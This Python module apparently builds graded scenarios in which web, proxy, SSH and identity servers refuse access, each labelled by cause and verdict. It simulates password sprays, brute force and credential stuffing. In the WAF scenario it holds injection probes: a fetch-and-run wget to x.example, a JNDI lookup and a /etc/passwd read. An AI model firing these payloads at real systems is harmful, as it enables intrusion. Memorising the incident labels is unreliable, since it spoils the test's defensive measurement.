"""Apache, HAProxy, Caddy, Squid, sshd, an identity provider, a mesh of two replicas, and content rules, in other houses."""
import base64, json, os, subprocess, urllib.parse
from stage import at, sec, BROWSERS, NAMES
import certificates, servers, waf
from servers import setting, page
from learn.faults_service import STATE, state, token, bearer, behind_nginx

GROUP = "doors"
FAULTS = []
def fault(f): FAULTS.append(f); return f


def users(name, *pairs):
    for n, (who, secret) in enumerate(pairs): subprocess.run(["htpasswd", "-mb" + ("c" if n == 0 else ""), "/srv/etc/" + name, who, secret], check=True, capture_output=True)


@fault
def htaccess_of_a_tenant(c):
    """a tenant's own .htaccess closes a folder to all but itself; a broken Options line nearby"""
    page("tenant/index.html"); page("tenant/.htaccess", "Require ip 10.0.0.0/8\n"); page("drop/x.txt"); page("drop/.htaccess", "Options -Indexes\n")
    c.apache("<Directory /srv/www>\n  AllowOverride All\n</Directory>")
    c.people(at(9), at(10), every=30)
    a = c.incident("tenant's folder from outside", "proxy", "address-not-allowlisted", "working-as-intended", "single", acceptable={"cause": ["server-rule"]})
    d = c.incident("no listing of the drop folder", "proxy", "directory-listing-off", "working-as-intended", "single")
    for n in range(3): c.get(at(9, 6 + 13 * n), "192.0.2.%d" % (40 + n), "/tenant/", agent=BROWSERS[n], deny=a)
    for n in range(3): c.get(at(9, 9 + 13 * n), "192.0.2.%d" % (50 + n), "/drop/", agent=BROWSERS[n], deny=d)


@fault
def apache_unreadable_after_restore(c):
    """a restore from backup leaves a tree that the server may not enter"""
    for n in range(5): page("archive/2025/p%d.html" % n)
    c.apache("", keep=False)
    what = "restored /srv/www/archive from backup"
    c.change(at(10), "ops", what, "archive", "deploy"); c.change(at(9, 20), "ci", "deployed banner 7", "banner", "deploy"); c.do(at(10), lambda: os.chmod("/srv/www/archive", 0o700))
    c.people(at(9), at(11), every=60)
    i = c.incident("archive closed since the restore", "proxy", "file-permission", "misconfiguration", "burst-after-change", what)
    t = at(9)
    while t < at(11):
        k = c.random.randrange(14); c.get(t, "192.0.2.%d" % (20 + k), "/archive/2025/p%d.html" % c.random.randrange(5), agent=BROWSERS[k % 4], deny=i if t > at(10) else None); t += sec(c.random.expovariate(1 / 60))


@fault
def apache_spray(c):
    c.starts.append(lambda: users("pw", *[(n, "right-" + n) for n in NAMES[:36]]))
    c.apache('<Directory /srv/www>\n  AuthType Basic\n  AuthName "staff"\n  AuthUserFile /srv/etc/pw\n  Require valid-user\n</Directory>', keep=False)
    t = at(8)
    while t < at(10): k = c.random.randrange(36); c.get(t, "192.0.2.%d" % (20 + k), "/", user="%s:right-%s" % (NAMES[k], NAMES[k]), agent=BROWSERS[k % 4]); t += sec(c.random.expovariate(1 / 30))
    i = c.incident("one password at every account", "proxy", "credential-wrong", "attack", "password-spray")
    m = c.incident("own password mistyped", "proxy", "credential-wrong", "caller-fault", "single")
    t = at(8, 50)
    for n in NAMES[:36]: c.get(t, "198.51.100.120", "/", user=n + ":Winter2025", deny=i, principal=n, agent="Mozilla/5.0"); t += sec(c.random.uniform(4, 20))
    for k in (2, 11): c.get(at(9, 20 + k), "192.0.2.%d" % (20 + k), "/", user="%s:oops" % NAMES[k], deny=m, principal=NAMES[k], agent=BROWSERS[k % 4]); c.get(at(9, 20 + k, 9), "192.0.2.%d" % (20 + k), "/", user="%s:right-%s" % (NAMES[k], NAMES[k]), agent=BROWSERS[k % 4])


@fault
def apache_wants_tls(c):
    """a page that wants TLS is asked for without it; methods that are not allowed"""
    page("pay/index.html"); page("notes/n.txt")
    c.apache("<Directory /srv/www/pay>\n  SSLRequireSSL\n</Directory>\n<Directory /srv/www/notes>\n  AllowMethods GET HEAD\n</Directory>", modules="socache_shmcb ssl allowmethods")
    c.people(at(9), at(10), every=30)
    s = c.incident("page that wants TLS", "proxy", "tls-requirement", "working-as-intended", "single", acceptable={"verdict": ["caller-fault", "misconfiguration"]})
    m = c.incident("method not allowed", "proxy", "method-refused", "working-as-intended", "single", acceptable={"verdict": ["caller-fault"]})
    for n in range(5): c.get(at(9, 4 + 10 * n), "192.0.2.%d" % (40 + n), "/pay/", agent=BROWSERS[n % 4], deny=s)
    for n, x in enumerate(("PUT", "DELETE", "POST")): c.send(at(9, 9 + 12 * n), "192.0.2.%d" % (60 + n), x, "/notes/n.txt", agent=BROWSERS[n], deny=m, status=405)


@fault
def apache_agents_and_referers(c):
    page("img/a.jpg")
    c.apache('SetEnvIfNoCase User-Agent "(SemrushBot|MJ12bot)" unwanted\nSetEnvIf Referer "^https://mirror\\.example\\.org/" leech\n<Directory /srv/www>\n  <RequireAll>\n    Require all granted\n    Require not env unwanted\n  </RequireAll>\n</Directory>\n<Directory /srv/www/img>\n  <RequireAll>\n    Require all granted\n    Require not env leech\n  </RequireAll>\n</Directory>')
    c.people(at(9), at(10), every=30)
    u = c.incident("crawler refused by name", "proxy", "user-agent-blocked", "unwanted-automation", "scrape", acceptable={"cause": ["server-rule"], "pattern": ["steady", "retry-loop"], "verdict": ["working-as-intended"]})
    r = c.incident("pictures on a mirror", "proxy", "hotlink-refused", "working-as-intended", "single", acceptable={"cause": ["server-rule"], "pattern": ["steady"], "verdict": ["unwanted-automation"]})
    for n in range(40): c.get(at(9, 10) + sec(15 * n), "203.0.113.88", "/shop/%d" % (4 + n % 2), agent="Mozilla/5.0 (compatible; MJ12bot/v1.4.8; http://mj12bot.com/)", deny=u)
    for n in range(9): c.get(at(9, 3) + sec(380 * n), "192.0.2.%d" % (110 + n), "/img/a.jpg", agent=BROWSERS[n % 4], referer="https://mirror.example.org/p/%d" % n, deny=r)


@fault
def haproxy_lists_and_certificates(c):
    pki = certificates.make(at(9), good="pos-3", expired="pos-7")
    c.starts.append(lambda: setting("blocked.lst", "203.0.113.0/27\n198.51.100.77\n"))
    c.haproxy("  http-request deny if { src -f /srv/etc/blocked.lst }\n  http-request deny deny_status 403 if { path_beg /pos } !{ ssl_c_used }\n", port=443, tls="ssl crt %(both)s ca-file %(ca)s verify optional crt-ignore-err all" % pki)
    c.port, c.tls = 443, certificates.client(pki)
    c.node("quiet.mjs", 8080, "quiet.log")
    c.people(at(9), at(10), every=30)
    for n in range(20): c.get(at(9, 2) + sec(150 * n), "192.0.2.90", "/pos/3", agent="Pos/1", tls=certificates.client(pki, "good"))
    b = c.incident("addresses on the list", "proxy", "address-blocked", "working-as-intended", "single", acceptable={"cause": ["server-rule"]})
    m = c.incident("till without its certificate", "proxy", "client-certificate", "caller-fault", "retry-loop", acceptable={"cause": ["server-rule"], "pattern": ["steady"]})
    for n, who in enumerate(("203.0.113.4", "198.51.100.77", "203.0.113.30")): c.get(at(9, 8 + 15 * n), who, "/", agent=BROWSERS[n], deny=b)
    for n in range(12): c.get(at(9, 5) + sec(240 * n), "192.0.2.95", "/pos/7", agent="Pos/1", deny=m)


@fault
def haproxy_users(c):
    c.starts.append(lambda: setting("shop.json", "{}"))
    c.haproxy("  http-request auth realm staff if { path_beg /staff } !{ http_auth(staff) }\n  http-request deny deny_status 405 if METH_TRACE\n", keep=True)
    text = c.configs["haproxy.cfg"]
    whole = "userlist staff\n  user olga insecure-password right-olga\n\n" + text
    c.configs["haproxy.cfg"] = whole
    c.starts.insert(len(c.starts) - 1, lambda: setting("haproxy.cfg", whole))
    c.node("quiet.mjs", 8080, "quiet.log")
    c.people(at(9), at(10), every=30)
    for n in range(10): c.get(at(9, 3 + 5 * n), "192.0.2.33", "/staff/", user="olga:right-olga", agent=BROWSERS[1])
    w = c.incident("staff pages guessed at", "proxy", "credential-wrong", "attack", "brute-force", acceptable={"cause": ["credential-missing"]})
    m = c.incident("no password sent", "proxy", "credential-missing", "working-as-intended", "single", acceptable={"verdict": ["caller-fault"]})
    t = at(9, 20)
    for n in range(60): c.get(t, "203.0.113.99", "/staff/", user="admin:x%d" % n, agent="hydra", deny=w, status=401); t += sec(c.random.uniform(.3, 2))
    for n in range(3): c.get(at(9, 8 + 15 * n), "192.0.2.%d" % (60 + n), "/staff/", agent=BROWSERS[n], deny=m, status=401)


@fault
def caddy_keys_and_forwarding(c):
    """Caddy asks a gate service; it has a basic password of its own; a folder is not its to read"""
    page("closed/a.txt", mode=0o600); page("team/index.html")
    sealed = subprocess.run(["caddy", "hash-password", "--plaintext", "right-vera"], capture_output=True, text=True, check=True).stdout.strip()
    c.caddy("\troot * /srv/www\n\tbasicauth /team/* {\n\t\tvera %s\n\t}\n\tforward_auth /gated/* 10.20.0.1:8081 {\n\t\turi /forbidden\n\t}\n\tfile_server" % sealed)
    c.node("quiet.mjs", 8081, "gate.log")
    c.people(at(9), at(10), every=30)
    c.get(at(9, 2), "192.0.2.40", "/team/", user="vera:right-vera", agent=BROWSERS[0])
    w = c.incident("wrong password at the team's pages", "proxy", "credential-wrong", "caller-fault", "single", acceptable={"cause": ["credential-missing"], "verdict": ["working-as-intended"]})
    g = c.incident("gate service said no", "authorizer", "permission-missing", "working-as-intended", "single", acceptable={"cause": ["application-refused", "unknown", "explicit-deny", "server-rule"], "verdict": ["undetermined"], "layer": ["application"]})
    for n in range(2): c.get(at(9, 10 + 20 * n), "192.0.2.%d" % (40 + n), "/team/", user="vera:wrong", agent=BROWSERS[n], deny=w, principal="vera", status=401)
    for n in range(4): c.get(at(9, 6 + 12 * n), "192.0.2.%d" % (50 + n), "/gated/%d" % n, agent=BROWSERS[n], deny=g)


@fault
def squid_hours_and_addresses(c):
    c.nginx("", address="10.20.0.1", name="origin", keep=False)
    c.squid("acl house src 10.20.7.0/24\nacl CONNECT method CONNECT\nacl safe port 443\nhttp_access deny CONNECT !safe\nhttp_access allow house\nhttp_access deny all", address="10.20.0.4")
    c.logs = {k: v for k, v in c.logs.items() if k == "squid.log"}
    for n in range(80): c.get(at(9, 1) + sec(40 * n), "10.20.7.%d" % (4 + n % 9), "http://app.internal/shop/4", host="app.internal", agent=BROWSERS[n % 4])
    s = c.incident("network that may not use the proxy", "proxy", "address-not-allowlisted", "working-as-intended", "single", acceptable={"cause": ["server-rule", "unknown", "address-blocked"]})
    p = c.incident("tunnel to a port that is not allowed", "proxy", "server-rule", "working-as-intended", "single", acceptable={"cause": ["method-refused", "explicit-deny", "unknown"]})
    for n in range(4): c.get(at(9, 8 + 11 * n), "10.20.9.%d" % (4 + n), "http://app.internal/", host="app.internal", agent=BROWSERS[n], deny=s)
    for n in range(2): c.send(at(9, 14 + 20 * n), "10.20.7.%d" % (4 + n), "CONNECT", "app.internal:2222", host="app.internal:2222", agent="curl/8.5.0", deny=p)


@fault
def bastion(c):
    """sshd: people with keys and passwords, a guesser at root, a person not among the allowed, a locked account, a wrong key"""
    def keys():
        os.makedirs("/srv/etc/keys", exist_ok=True)
        for k in ("own", "strange"): subprocess.run(["ssh-keygen", "-q", "-t", "ed25519", "-N", "", "-C", k, "-f", "/srv/etc/" + k], check=True)
        open("/srv/etc/keys/gina", "w").write(open("/srv/etc/own.pub").read())
    c.starts.append(keys)
    c.sshd("PermitRootLogin no\nMaxAuthTries 3\nAllowUsers gina timo uwe wanda root\n", people=("gina", "timo", "uwe", "wanda", "silke"))
    g = c.incident("guesses at root", "identity", "credential-wrong", "attack", "brute-force")
    n_ = c.incident("not among the allowed", "identity", "account-locked", "working-as-intended", "single", acceptable={"cause": ["explicit-deny", "not-assigned", "permission-missing", "server-rule", "credential-wrong"], "verdict": ["caller-fault"]})
    w = c.incident("mistyped", "identity", "credential-wrong", "caller-fault", "single")
    k_ = c.incident("key that nobody put there", "identity", "credential-wrong", "caller-fault", "single", acceptable={"cause": ["api-key-misconfigured", "unknown"]})
    for n in range(14): c.knock(at(9, 2 + 7 * n), "192.0.2.%d" % (20 + n % 3), ("gina", "timo", "uwe")[n % 3], secret="right-" + ("gina", "timo", "uwe")[n % 3], key="/srv/etc/own" if n % 3 == 0 else None)
    t = at(9, 31)
    for n in range(40): c.knock(t, "203.0.113.201", "root", secret="root%d" % n, deny=g); t += sec(c.random.uniform(2, 6))
    c.knock(at(9, 44), "192.0.2.60", "silke", secret="right-silke", deny=n_)
    c.knock(at(9, 50), "192.0.2.21", "timo", secret="rigth-timo", deny=w); c.knock(at(9, 50, 20), "192.0.2.21", "timo", secret="right-timo")
    c.knock(at(10, 5), "192.0.2.61", "wanda", key="/srv/etc/strange", deny=k_)


@fault
def provider_of_tokens(c):
    """oidc-provider: a service whose secret was rotated without it, a stranger's client, tokens that are not known"""
    c.nginx("location / { proxy_pass http://10.20.0.1:8080; proxy_set_header Host $host; proxy_set_header X-Forwarded-For $remote_addr; proxy_set_header X-Forwarded-Proto http; }", site="id.shop.example")
    c.host = "id.shop.example"
    c.node("identity.mjs", 8080, "identity.log", access=True, done='"msg":"request completed"')
    what = "rotated the secret of client billing"
    c.change(at(10), "vault", what, "client:billing", "identity")
    form = lambda who, secret: dict(body="grant_type=client_credentials&scope=stock:read", headers=[("Content-Type", "application/x-www-form-urlencoded"), ("Authorization", "Basic " + base64.b64encode(("%s:%s" % (who, secret)).encode()).decode())])
    for n in range(60): who = ("stock-sync", "crm-export", "returns")[n % 3]; c.send(at(9, 1) + sec(110 * n), "192.0.2.%d" % (80 + n % 3), "POST", "/token", agent=who + "/1.0", **form(who, "right-" + who))
    r = c.incident("billing still sends the old secret", "identity", "api-key-misconfigured", "misconfiguration", "retry-loop", what, acceptable={"verdict": ["caller-fault"], "pattern": ["burst-after-change", "steady"], "cause": ["credential-wrong"]})
    u = c.incident("token that the provider does not know", "identity", "token-invalid", "caller-fault", "single", acceptable={"cause": ["token-expired"]})
    for n in range(10): c.send(at(9, 2) + sec(300 * n), "192.0.2.84", "POST", "/token", agent="billing/2.2", **form("billing", "right-billing")) if n < 1 else None
    for n in range(30): c.send(at(10, 1) + sec(60 * n), "192.0.2.84", "POST", "/token", agent="billing/2.2", status=401, deny=r, **form("billing", "old-billing"))
    for n in range(2): c.get(at(9, 30 + 20 * n), "192.0.2.%d" % (90 + n), "/me", headers=[("Authorization", "Bearer unknown-%d" % n)], agent=BROWSERS[n], status=401, deny=u)


@fault
def clock_of_the_provider(c):
    """the provider's clock runs six minutes fast: its tokens are not yet valid when they arrive"""
    behind_nginx(c, format="all")
    what = "moved the identity provider to host id2"
    c.change(at(9, 40), "ops", what, "id.shop.example", "identity")
    i = c.incident("tokens of the future", "application", "token-invalid", "misconfiguration", "burst-after-change", what, acceptable={"layer": ["identity"], "pattern": ["single", "steady"]})
    t = at(9)
    while t < at(10, 20):
        k = c.random.randrange(25); fast = t > at(9, 40)
        c.get(t, "192.0.2.%d" % (20 + k), "/api/v2/orders", headers=bearer(t + sec(360 if fast else -30), NAMES[k], nbf=int((t + sec(360 if fast else -30)).timestamp())), agent=BROWSERS[k % 4], deny=i if fast else None, status=401 if fast else 200); t += sec(c.random.expovariate(1 / 20))


@fault
def hooks_and_their_signatures(c):
    """a sender signs with an old secret; another's clock is off"""
    import hashlib, hmac
    behind_nginx(c)
    c.people(at(9), at(11), every=60)
    def signed(t, body, secret=STATE["secret"], skew=0):
        stamp = int(t.timestamp()) + skew
        return dict(body=body, headers=[("X-Timestamp", str(stamp)), ("X-Signature", hmac.new(secret.encode(), ("%d.%s" % (stamp, body)).encode(), hashlib.sha256).hexdigest())])
    for n in range(40): t = at(9, 1) + sec(170 * n); c.send(t, "203.0.113.12", "POST", "/hook", agent="PayHooks/3", **signed(t, '{"n":%d}' % n))
    s = c.incident("signed with an old secret", "application", "request-signature", "caller-fault", "retry-loop", acceptable={"pattern": ["steady"], "verdict": ["misconfiguration"]})
    k = c.incident("sender's clock is off", "application", "request-signature", "caller-fault", "retry-loop", acceptable={"pattern": ["steady"]})
    for n in range(20): t = at(9, 30) + sec(180 * n); c.send(t, "203.0.113.60", "POST", "/hook", agent="ShipHooks/1", deny=s, **signed(t, '{"s":%d}' % n, secret="old"))
    for n in range(12): t = at(9, 20) + sec(400 * n); c.send(t, "203.0.113.70", "POST", "/hook", agent="MailHooks/2", deny=k, **signed(t, '{"m":%d}' % n, skew=-900))


@fault
def documents_of_others(c):
    """a customer walks the numbers; another follows dead links; the service answers 403 to both"""
    behind_nginx(c)
    c.people(at(9), at(10), every=60)
    for n in range(60): c.get(at(9) + sec(55 * n), "192.0.2.%d" % (20 + n % 30), "/documents/%d" % (1000 + n % 30), headers=[("X-User", NAMES[n % 30])], agent=BROWSERS[n % 4])
    w = c.incident("documents of others walked through", "application", "permission-missing", "attack", "enumeration", acceptable={"cause": ["application-refused"]})
    a = c.incident("links to documents that are gone", "application", "absence-hidden", "caller-fault", "single", acceptable={"verdict": ["working-as-intended", "misconfiguration"]})
    t = at(9, 20)
    for n in range(58): c.get(t, "203.0.113.40", "/documents/%d" % (1001 + n), headers=[("X-User", "mallory")], agent=BROWSERS[1], deny=w, principal="mallory"); t += sec(c.random.uniform(.3, 2))
    for n in range(6): c.get(at(9, 5 + 9 * n), "192.0.2.%d" % (20 + n), "/documents/%d" % (7000 + n), headers=[("X-User", NAMES[n])], agent=BROWSERS[n % 4], deny=a, principal=NAMES[n])


@fault
def sign_in_forms(c):
    """a guesser at one account of the shop, leaked pairs, a locked account, a person who mistypes"""
    behind_nginx(c)
    c.people(at(9), at(10, 30), every=40)
    for n in range(50): c.send(at(9) + sec(100 * n), "192.0.2.%d" % (20 + n % 20), "POST", "/login", body="%s:right-%s" % (NAMES[n % 20], NAMES[n % 20]) if n % 20 != NAMES.index("felix") else "ida:right-ida", agent=BROWSERS[n % 4])
    b = c.incident("guesses at greta", "application", "credential-wrong", "attack", "brute-force", acceptable={"layer": ["identity"]})
    s = c.incident("leaked pairs", "application", "credential-wrong", "attack", "credential-stuffing", acceptable={"layer": ["identity"], "pattern": ["password-spray"]})
    l = c.incident("locked account", "application", "account-locked", "working-as-intended", "single", acceptable={"layer": ["identity"], "verdict": ["caller-fault"]})
    m = c.incident("mistyped", "application", "credential-wrong", "caller-fault", "single", acceptable={"layer": ["identity"]})
    t = at(9, 15)
    for n in range(70): c.send(t, "198.51.100.90", "POST", "/login", body="greta:guess%d" % n, agent="python-requests/2.31.0", status=401, deny=b, principal="greta"); t += sec(c.random.uniform(.4, 3))
    t = at(9, 40)
    for n in range(90): c.send(t, "203.0.113.%d" % (140 + n % 6), "POST", "/login", body="%s.%d@mail.example:w%d" % (NAMES[n % 40], n, n * 7), agent="okhttp/3.8.0", status=401, deny=s); t += sec(c.random.uniform(.4, 4))
    for n in range(2): c.send(at(9, 12 + 30 * n), "192.0.2.70", "POST", "/login", body="felix:right-felix", agent=BROWSERS[2], status=403, deny=l, principal="felix")
    for n in range(2): c.send(at(9, 20 + 20 * n), "192.0.2.%d" % (30 + n), "POST", "/login", body="%s:rihgt" % NAMES[10 + n], agent=BROWSERS[n], status=401, deny=m, principal=NAMES[10 + n]); c.send(at(9, 20 + 20 * n, 15), "192.0.2.%d" % (30 + n), "POST", "/login", body="%s:right-%s" % (NAMES[10 + n], NAMES[10 + n]), agent=BROWSERS[n])


@fault
def one_replica_not_reloaded(c):
    """a partner is taken off the deny list; one of two replicas behind the balancer still has the old list"""
    page("feed/a.json")
    rule = "location /feed/ { %s try_files /feed/a.json =404; }"
    c.haproxy("  option forwardfor", backend="server web1 10.20.0.3:80\nserver web2 10.20.0.5:80", capture=True)
    real = "  set_real_ip_from 10.20.0.2; real_ip_header X-Forwarded-For;"
    c.nginx(rule % "deny 203.0.113.64/28;", http=real, address="10.20.0.3", name="web1")
    c.nginx(rule % "deny 203.0.113.64/28;", http=real, address="10.20.0.5", name="web2")
    for n in ("web1", "web2"): c.logs[n + "-access.log"].access = False
    what = "removed 203.0.113.64/28 from the deny list"
    c.change(at(9, 30), "dana", what, "nginx deny list", "allowlist")
    c.do(at(9, 30), lambda: c.reload("web1", open(servers.ETC + "/web1.conf").read().replace("deny 203.0.113.64/28;", "")))
    c.configs["web1.conf"] = c.configs["web1.conf"].replace("deny 203.0.113.64/28;", "")
    b = c.incident("on the deny list until 9:30", "proxy", "address-blocked", "working-as-intended", "retry-loop", acceptable={"pattern": ["steady"], "cause": ["policy-out-of-date"], "verdict": ["misconfiguration"]})
    o = c.incident("web2 still has the old list", "proxy", "policy-out-of-date", "misconfiguration", "retry-loop", acceptable={"pattern": ["steady"]})
    t = at(9)
    while t < at(10, 20): c.plan.append((t, len(c.plan), lambda t=t: replica(c, t, b, o))); t += sec(60)


def replica(c, t, before, after):
    """which replica answers is the balancer's choice: the label follows the answer"""
    for log in c.logs.values(): log.gained()
    a = c.exchange("203.0.113.70", "GET", "/feed/a.json", agent="FeedPull/2.0")
    refs = c.collect()
    import time
    until = time.monotonic() + 2
    while not any(f.startswith("web") and f.endswith("access.log") for f, _ in refs) and time.monotonic() < until:
        refs += [(name, n) for name, log in c.logs.items() for n in log.gained()]
    refs += [(name, n) for name, log in c.logs.items() for n in log.gained()]
    if a.status == 403: c.denied(before if t < at(9, 30) else after, refs)
    elif a.status != 200: raise servers.Misstaged("answered %d" % a.status)


@fault
def crs_serial_audit(c):
    """nginx, ModSecurity 3, the audit log in its serial form: probes of three kinds, and a support ticket with a command in it"""
    waf.nginx(c, audit=True, audit_format="Native")
    c.people(at(9), at(10), every=30)
    f = c.incident("support tickets with commands in them", "waf", "waf-rule", "misconfiguration", "single", acceptable={"pattern": ["steady"]})
    a = c.incident("command probes", "waf", "waf-rule", "attack", "exploit-attempt", acceptable={"pattern": ["scan"]})
    said = ["please run cat /etc/hosts; ls -la /var/log", "The command `wget http://mirror.example/x.sh` fails", "we sleep(5) hours a day", "../../old/path is wrong in the config"]
    for n in range(10): c.send(at(9, 4) + sec(330 * n), "192.0.2.%d" % (30 + n), "POST", "/notes/save", headers=[("Content-Type", "application/x-www-form-urlencoded")], body="ticket=" + urllib.parse.quote_plus(said[n % 4]), referer="https://shop.example/support", agent=BROWSERS[n % 4], deny=f, also=("modsec_audit.log",))
    t = at(9, 35)
    for n in range(30): c.get(t, "198.51.100.31", ("/cgi-bin/x.sh?c=%3Bcat%20/etc/passwd", "/index.php?page=php://filter/convert.base64-encode/resource=index", "/?x=%24%7Bjndi%3Aldap%3A//x.example/a%7D", "/search?q=%3Bwget%20http%3A//x.example/s.sh%7Csh")[n % 4] + "&n=%d" % n, agent="Mozilla/5.0 (compatible; Nuclei)", deny=a, also=("modsec_audit.log",)); t += sec(c.random.uniform(.4, 3))


@fault
def apache_crs_one_rule_of_the_house(c):
    """mod_security with a rule of the house's own: an address that it names, and an agent"""
    waf.apache(c, rules='SecRule REQUEST_HEADERS:User-Agent "@pm sqlmap nikto" "id:10001,phase:1,deny,status:403,msg:\'House rule: scanner\'"\nSecRule REMOTE_ADDR "@ipMatch 203.0.113.128/26" "id:10002,phase:1,deny,status:403,msg:\'House rule: blocked network\'"\n')
    c.people(at(9), at(10), every=30)
    u = c.incident("scanner by its name", "waf", "waf-rule", "attack", "scan", acceptable={"cause": ["user-agent-blocked"], "pattern": ["exploit-attempt"]})
    b = c.incident("network of the house rule", "waf", "waf-rule", "working-as-intended", "single", acceptable={"cause": ["address-blocked"], "verdict": ["undetermined"]})
    t = at(9, 20)
    for n in range(40): c.get(t, "198.51.100.99", "/%s%d.php" % (("admin", "login", "shell", "test")[n % 4], n), agent="Mozilla/5.00 (Nikto/2.5.0)", deny=u, also=("modsec_audit.log",)); t += sec(c.random.uniform(.2, 1.5))
    for n in range(3): c.get(at(9, 10 + 15 * n), "203.0.113.%d" % (140 + n), "/shop/4", agent=BROWSERS[n], deny=b, also=("modsec_audit.log",))


@fault
def forms_and_origins(c):
    """HAProxy before the shop: forms posted from a foreign page, a pilot front end whose origin nobody entered, a lost cookie"""
    c.starts.append(state)
    c.haproxy("  option forwardfor\n  http-request set-header X-Request-Id %[uuid()]")
    c.node("shop.mjs", 8080, "shop.log", access=True, done='"msg":"request (completed|errored)"')
    c.people(at(9), at(10), every=25)
    good = [("Cookie", "csrf=xyz"), ("X-CSRF-Token", "xyz"), ("Origin", "https://shop.example")]
    for n in range(15): c.send(at(9, 1) + sec(210 * n), "192.0.2.%d" % (20 + n), "POST", "/account/name", headers=good, body="n=1", agent=BROWSERS[n % 4])
    f = c.incident("forms posted from a foreign page", "application", "csrf-origin-mismatch", "working-as-intended", "single", acceptable={"verdict": ["attack", "undetermined", "misconfiguration"]})
    o = c.incident("pilot front end's origin not entered", "application", "cors-origin-refused", "misconfiguration", "steady", acceptable={"pattern": ["single"], "verdict": ["working-as-intended"]})
    m = c.incident("form token of an older page", "application", "session-lost", "caller-fault", "single", acceptable={"verdict": ["misconfiguration", "working-as-intended"]})
    for n in range(6): c.send(at(9, 3 + 9 * n), "192.0.2.%d" % (50 + n), "POST", "/account/password", headers=[("Cookie", "csrf=xyz"), ("Origin", "https://freebies.example.org")], referer="https://freebies.example.org/", body="p=x", agent=BROWSERS[n % 4], deny=f)
    for n in range(16): c.send(at(9, 2) + sec(n * 200), "192.0.2.%d" % (60 + n % 6), "OPTIONS", "/api/open", headers=[("Origin", "https://pilot.shop.example"), ("Access-Control-Request-Method", "PUT")], agent=BROWSERS[n % 4], deny=o)
    for n in range(4): c.send(at(9, 7 + 11 * n), "192.0.2.%d" % (70 + n), "POST", "/account/name", headers=[("Cookie", "csrf=new"), ("X-CSRF-Token", "old"), ("Origin", "https://shop.example")], body="n=2", agent=BROWSERS[n], deny=m)
